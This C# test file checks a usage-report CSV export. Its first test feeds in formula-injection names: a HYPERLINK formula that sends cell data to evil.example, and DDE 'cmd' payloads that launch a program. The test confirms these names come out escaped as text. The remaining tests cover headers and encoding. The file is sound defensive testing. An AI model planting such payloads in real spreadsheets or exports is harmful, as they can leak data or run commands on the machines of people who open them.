using System.Runtime.CompilerServices;
using ControlPanel.Domain.Usage;
using ControlPanel.Web.Usage;

namespace ControlPanel.Api.Tests.Usage;

/// <summary>
/// Account and application names are chosen by self-registered customers and staff open the export in
/// spreadsheets: a name that starts like a formula must arrive as text, not as a formula.
/// </summary>
public sealed class UsageCsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task Names_that_start_like_a_formula_are_escaped(string name)
    {
        var csv = await ExportAsync(new UsageReports.HistoryRow
        {
            Day = new DateOnly(2026, 11, 30),
            AccountName = name,
            ApplicationName = name,
            Environment = "Live",
            Allowed = 3,
            Total = 3,
            Counted = 3,
        });

        // CsvHelper's escape puts a quote before the cell, so spreadsheets read it as text.
        var escaped = "\"'" + name.Replace("\"", "\"\"") + "\"";
        Assert.Contains("2026-11-30," + escaped + "," + escaped + ",Live,3,", csv);
        Assert.DoesNotContain("," + name, csv);
    }

    [Fact]
    public async Task Ordinary_names_are_written_as_they_are()
    {
        var csv = await ExportAsync(new UsageReports.HistoryRow
        {
            Day = new DateOnly(2026, 11, 30),
            AccountName = "Acme Ltd",
            ApplicationName = "Shop-front 2",
            Environment = "Live",
            Allowed = 3,
            Total = 3,
            Counted = 3,
        });

        Assert.Contains("2026-11-30,Acme Ltd,Shop-front 2,Live,3,0,0,0,0,0,3,3", csv);
    }

    [Fact]
    public async Task The_file_by_resource_carries_the_resource_column()
    {
        using var output = new MemoryStream();
        await UsageCsv.WriteResourcesAsync(output, Rows<UsageReports.ResourceHistoryRow>([new UsageReports.ResourceHistoryRow
        {
            Day = new DateOnly(2026, 11, 30), AccountName = "Acme Ltd", ApplicationName = "Storefront", Environment = "Live",
            Resource = "GET /v1/chats/{id}", Allowed = 2, RateLimited = 1, Total = 3,
        }]), CancellationToken.None);
        var csv = System.Text.Encoding.UTF8.GetString(output.ToArray()).TrimStart('\uFEFF');

        Assert.StartsWith("Day (UTC),Account,Application,Environment,Resource,Allowed,158 rate limited,", csv);
        Assert.Contains("2026-11-30,Acme Ltd,Storefront,Live,GET /v1/chats/{id},2,1,0,0,0,0,3", csv);
    }

    [Fact]
    public async Task The_headers_are_the_outcome_list_s_labels_between_the_names_and_the_sums()
    {
        var header = (await ExportAsync(new UsageReports.HistoryRow { Day = new DateOnly(2026, 11, 30) })).Split("\r\n")[0];

        Assert.Equal(string.Join(",", ["Day (UTC)", "Account", "Application", "Environment", .. UsageOutcomes.Definitions.Select(d => d.Label), "Total", "Counted towards quota"]), header);
        // The text spreadsheets and scripts read, unchanged.
        Assert.Equal("Day (UTC),Account,Application,Environment,Allowed,158 rate limited,103 over quota,111 bad origin,204 bad keys,Other errors,Total,Counted towards quota", header);
    }

    [Fact]
    public async Task The_file_starts_with_a_utf8_byte_order_mark_so_spreadsheets_read_accented_names()
    {
        using var output = new MemoryStream();
        await UsageCsv.WriteAsync(output, Rows<UsageReports.HistoryRow>([new UsageReports.HistoryRow { Day = new DateOnly(2026, 11, 30), AccountName = "Société Générale", ApplicationName = "Café", Environment = "Live" }]), CancellationToken.None);

        var bytes = output.ToArray();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.Contains("Société Générale,Café", System.Text.Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
    }

    private static async Task<string> ExportAsync(params UsageReports.HistoryRow[] rows)
    {
        using var output = new MemoryStream();
        await UsageCsv.WriteAsync(output, Rows(rows), CancellationToken.None);
        output.Position = 0;
        return await new StreamReader(output).ReadToEndAsync();
    }

    private static async IAsyncEnumerable<TRow> Rows<TRow>(TRow[] rows, [EnumeratorCancellation] CancellationToken cancellationToken = default)
    {
        foreach (var row in rows)
        {
            await Task.Yield();
            yield return row;
        }
    }
}
